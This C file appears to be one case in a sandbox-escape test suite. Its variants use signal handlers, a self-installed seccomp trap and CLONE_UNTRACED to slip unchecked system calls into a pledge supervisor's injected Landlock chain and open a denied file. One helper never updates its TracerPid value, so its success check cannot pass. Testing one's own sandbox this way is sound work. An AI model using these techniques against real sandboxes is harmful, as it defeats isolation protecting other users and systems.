// nest_signal DIR [VARIANT...]: a signal handler runs in the middle of the supervisor's
// Landlock nesting chain (the injected landlock_create_ruleset -> landlock_restrict_self ->
// close that a narrowing xpledge() starts with). Between two injected calls the supervisor
// rewinds the thread to its `syscall` instruction and resumes it; a signal pending then is
// delivered first, and the handler's own system call is taken for the next injected call: it
// runs unchecked. The handler opens DIR/forbiddn (denied by the policy); the attack looks for an
// open fd that reads "secret".
//   sigsys: no race at all: the program's own seccomp filter answers the injected
//     landlock_create_ruleset with SECCOMP_RET_TRAP. The kernel rolls rax back to the call's
//     number (444), which the chain takes for a ruleset fd and goes on; SIGSYS is pending at that
//     resume, so the SIGSYS handler's openat is the "next injected call". Deterministic.
//   sigsys-untraced: the same, with clone(CLONE_UNTRACED) as the handler's call (the guard
//     that clears the flag never sees it): the child runs untraced (TracerPid 0) and opens
//     DIR/forbiddn.
//   pledged: a process already pledged "stdio proc" (openat needs rpath) forks children that
//     narrow to "stdio" while a sibling spams their process group with SIGUSR1:
//     the handler's openat, refused by the pledge and the policy, runs in the window.
//   child: SIGUSR1 sent in a loop by an unpledged child process. (A 20 us ITIMER_REAL SIGALRM
//   in place of the child never hit the window in 200 attempts here.)
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sched.h>
#include <sys/wait.h>

static const char *g_dir;
static char g_path[4096];
static volatile sig_atomic_t g_armed;

static volatile sig_atomic_t g_untraced;
static volatile long g_untraced_child;

// The untraced child: waits for its parent to look at its TracerPid, then exits 0 if it reads
// the denied file (in seccomp mode the pre-filter's RET_TRACE, with no tracer, gives ENOSYS for
// every call the pre-filter does not allow outright: the child is untraced but boxed in).
static void untraced_child(void) {
  struct timespec ts = {0, 300 * 1000 * 1000};
  syscall(SYS_nanosleep, &ts, NULL);
  long tracer = -2;
  long fd = syscall(SYS_openat, AT_FDCWD, g_path, O_RDONLY);
  char buf[8] = {0};
  if (fd >= 0) (void)!syscall(SYS_read, fd, buf, 6);
  say(1, "# untraced child: TracerPid=%ld, openat(forbiddn)=%ld, read '%s'\n", tracer, fd, buf);
  syscall(SYS_exit_group, tracer == 0 && memcmp(buf, "secret", 6) == 0 ? 0 : 3);
}

static void spam_pause(void) {
  struct timespec ts = {0, 20 * 1000};
  syscall(SYS_nanosleep, &ts, NULL);
}

static void handler(int sig) {
  (void)sig;
  if (!g_armed) return;
  if (g_untraced) {
    g_armed = 0;
    long c = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
    if (c == 0) untraced_child();
    g_untraced_child = c;  // in vain: the supervisor's next step rewrites our registers
    return;
  }
  syscall(SYS_openat, AT_FDCWD, g_path, O_RDONLY);
}

// Any fd of ours that reads "secret": the denied file, opened.
static int find_secret(void) {
  for (int fd = 3; fd < 256; fd++) {
    char buf[16] = {0};
    if (pread(fd, buf, 6, 0) == 6 && memcmp(buf, "secret", 6) == 0) return fd;
  }
  return -1;
}

static void attempt(const char *name, int use_timer, int *won) {
  pid_t pid = fork();
  if (pid < 0) return setup_error(name, "fork: %s", errname(errno));
  if (pid == 0) {
    pid_t me = getpid(), spammer = -1;
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = handler;
    sa.sa_flags = SA_NODEFER | SA_RESTART;  // the handler's frame may never be returned from
    sigaction(use_timer ? SIGALRM : SIGUSR1, &sa, NULL);
    if (use_timer) {
      struct itimerval it = {{0, 20}, {0, 20}};
      setitimer(ITIMER_REAL, &it, NULL);
    } else {
      spammer = fork();
      if (spammer == 0) {
        // A short pause between signals: without it the handler runs at every return to user
        // mode and the program starves itself (natively too), never reaching its xpledge().
        while (kill(me, SIGUSR1) == 0) spam_pause();
        _exit(0);  // its target is gone
      }
    }
    g_armed = 1;
    long r = syscall(10000, "stdio rpath", NULL);
    int e = errno;
    g_armed = 0;
    if (use_timer) {
      struct itimerval off = {{0, 0}, {0, 0}};
      setitimer(ITIMER_REAL, &off, NULL);
    } else {
      kill(spammer, SIGKILL);  // refused once pledged: it ends when we do
    }
    int fd = find_secret();
    if (fd >= 0) {
      say(1, "# %s: xpledge returned %ld (%s); fd %d reads the denied file\n", name, r,
          errname(r ? e : 0), fd);
      _exit(1);
    }
    _exit(0);
  }
  int st = 0;
  waitpid(pid, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 1) *won = 1;
}

// A filter of the program's own: SECCOMP_RET_TRAP for landlock_create_ruleset, allow the rest.
static int trap_create_ruleset(void) {
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 444, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRAP),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = {sizeof f / sizeof f[0], f};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
}

static void sigsys_variant(const char *name) {
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = handler;
  sa.sa_flags = SA_NODEFER;
  sigaction(SIGSYS, &sa, NULL);
  if (trap_create_ruleset() != 0) return setup_error(name, "seccomp: %s", errname(errno));
  g_untraced = strcmp(name, "sigsys-untraced") == 0;
  g_armed = 1;
  long r = syscall(10000, "stdio rpath", NULL);
  int e = errno;
  g_armed = 0;
  if (g_untraced) {
    char path[96], kids[256] = {0};
    snprintf(path, sizeof path, "/proc/self/task/%ld/children", (long)syscall(SYS_gettid));
    int kfd = open(path, O_RDONLY);
    if (kfd >= 0) {
      (void)!read(kfd, kids, sizeof kids - 1);
      close(kfd);
    }
    long child = strtol(kids, NULL, 10), tracer = -1;
    if (child > 0) {
      snprintf(path, sizeof path, "/proc/%ld/status", child);
      tracer = tracer_pid_of(path);
    }
    int st = 0;
    pid_t c = wait(&st);
    int read_it = c > 0 && WIFEXITED(st) && WEXITSTATUS(st) == 0;
    if (child > 0 && tracer == 0)
      bypass(name, "xpledge returned %ld (%s); the SIGSYS handler's clone(CLONE_UNTRACED) made "
                   "child %ld with TracerPid 0%s", r, errname(r ? e : 0), child,
             read_it ? ", which read the denied file" : "");
    else
      ok(name, "no untraced child (child %ld, TracerPid %ld)", child, tracer);
    return;
  }
  int fd = find_secret();
  if (fd >= 0)
    bypass(name, "xpledge returned %ld (%s); the SIGSYS handler's openat of the denied file ran "
                 "unchecked: fd %d reads it", r, errname(r ? e : 0), fd);
  else
    ok(name, "xpledge returned %ld (%s); the denied file was not opened", r, errname(r ? e : 0));
}


// The "pledged" variant: the pledge itself, not only the policy, is passed by.
static void pledged_variant(const char *name) {
  if (setpgid(0, 0) != 0) return setup_error(name, "setpgid: %s", errname(errno));
  pid_t group = getpgrp();
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = handler;
  sa.sa_flags = SA_NODEFER | SA_RESTART;
  sigaction(SIGUSR1, &sa, NULL);
  if (syscall(10000, "stdio proc", NULL) != 0)
    return setup_error(name, "xpledge(stdio proc): %s", errname(errno));
  pid_t spammer = fork();  // pledged "stdio proc" too: kill is allowed
  if (spammer == 0) {
    while (kill(-group, SIGUSR1) == 0) spam_pause();
    _exit(0);
  }
  int won = 0, tries = 0;
  for (; tries < 60 && !won; tries++) {
    pid_t c = fork();
    if (c < 0) continue;
    if (c == 0) {
      g_armed = 1;
      long r = syscall(10000, "stdio", NULL);
      g_armed = 0;
      int fd = find_secret();
      if (fd >= 0) {
        say(1, "# %s: pledged \"stdio proc\", xpledge(\"stdio\") returned %ld; fd %d reads the "
               "denied file\n", name, r, fd);
        _exit(1);
      }
      _exit(0);
    }
    int st = 0;
    while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
    }
    won = WIFEXITED(st) && WEXITSTATUS(st) == 1;
  }
  kill(spammer, SIGKILL);
  if (won)
    bypass(name, "a process pledged \"stdio proc\" opened the denied file from a signal handler "
                 "inside a narrowing's nesting chain (attempt %d)", tries);
  else
    ok(name, "%d attempts, the denied file was never opened", tries);
}

static void variant(const char *name) {
  if (strncmp(name, "sigsys", 6) == 0) return sigsys_variant(name);
  if (strcmp(name, "pledged") == 0) return pledged_variant(name);
  int use_timer = strcmp(name, "timer") == 0;
  int won = 0, tries = 0;
  for (; tries < 40 && !won; tries++) attempt(name, use_timer, &won);
  if (won)
    bypass(name, "a signal handler's openat of the denied file ran unchecked inside the nesting "
                 "chain (attempt %d)", tries);
  else
    ok(name, "%d attempts, the denied file was never opened", tries);
}

int main(int argc, char **argv) {
  static const char *all[] = {"sigsys", "sigsys-untraced", "child", "pledged", NULL};
  if (argc < 2) return 2;
  g_dir = argv[1];
  snprintf(g_path, sizeof g_path, "%s/forbiddn", g_dir);
  const char **names = argc > 2 ? (const char **)argv + 2 : all;
  return run_variants(names, variant);
}
